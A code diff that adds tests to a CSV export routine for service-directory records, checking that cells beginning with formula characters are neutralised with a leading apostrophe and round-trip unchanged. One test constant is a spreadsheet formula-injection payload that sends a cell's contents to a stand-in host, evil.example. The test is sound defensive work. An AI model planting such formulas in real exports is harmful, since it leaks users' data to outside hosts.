@@ -266,3 +266,49 @@ def test_an_export_imports_back_to_the_same_export(exported, tmp_path_factory, f
 
 def test_tables_list_every_hsds_model_once():
     assert len({t.model for t in tabular.TABLES}) == len(tabular.TABLES) == 20
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1, "Book here")'
+
+
+def test_tabular_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers(db, tmp_path):
+    service = records.plain_service()
+    service.name = HOSTILE_NAME
+    service.description = "@SUM(1+1)"
+    service.alert = "'-already quoted"
+    service.save()
+    d.Phone.objects.filter(service=service).update(number="+44 1632 960222")
+
+    tabular.write_tabular(tmp_path)
+
+    row = _csv(tmp_path / "services.csv")[0]
+    assert row["name"] == "'" + HOSTILE_NAME
+    assert row["description"] == "'@SUM(1+1)"
+    assert row["alert"] == "''-already quoted"
+    phones = _csv(tmp_path / "phones.csv")
+    assert next(p for p in phones if p["service_id"] == str(service.pk))["number"] == (
+        "'+44 1632 960222"
+    )
+    location = _csv(tmp_path / "locations.csv")[0]
+    assert location["longitude"] == "-0.12"  # a number: data, not a formula
+
+
+def test_a_tabular_export_with_quoted_cells_imports_back_as_it_was(db, tmp_path):
+    service = records.plain_service()
+    service.name = HOSTILE_NAME
+    service.alert = "'-already quoted"
+    service.save()
+    d.Phone.objects.filter(service=service).update(number="-1632 960222")
+    tabular.write_tabular(tmp_path / "first")
+    _wipe_directory()
+
+    report = import_path(tmp_path / "first")
+
+    assert report.ok, report.lines()
+    again = d.Service.objects.get()
+    assert (again.name, again.alert) == (HOSTILE_NAME, "'-already quoted")
+    assert again.phones.get().number == "-1632 960222"
+    assert float(d.Location.objects.get().longitude) == -0.12
+    tabular.write_tabular(tmp_path / "second")
+    for path in (tmp_path / "first").iterdir():
+        assert (tmp_path / "second" / path.name).read_bytes() == path.read_bytes(), path.name
